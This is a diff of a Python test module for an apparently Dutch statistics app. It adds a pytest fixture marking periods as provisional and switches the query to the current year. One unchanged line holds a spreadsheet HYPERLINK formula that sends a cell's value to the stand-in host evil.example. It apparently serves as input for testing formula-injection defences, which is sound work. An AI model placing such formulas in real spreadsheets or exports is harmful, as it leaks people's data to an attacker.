@@ -7,13 +7,20 @@ import io
 import zipfile
 from datetime import date
 
+import pytest
 from openpyxl import load_workbook
 
 from samen.organisations.models import SafetyRegion
 from samen.signalling.services import PersonInput
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik hier")'
-QUERY = f"start={date(date.today().year - 4, 1, 1).isoformat()}&end={date.today().isoformat()}"
+# The records are made today: the running year, offered as a provisional release period.
+QUERY = f"period={date.today().year}"
+
+
+@pytest.fixture(autouse=True)
+def provisional_year(settings):
+    settings.SAMEN_STATISTICS_PERIODS = {"provisional": True}
 
 
 def _seed(record) -> None:
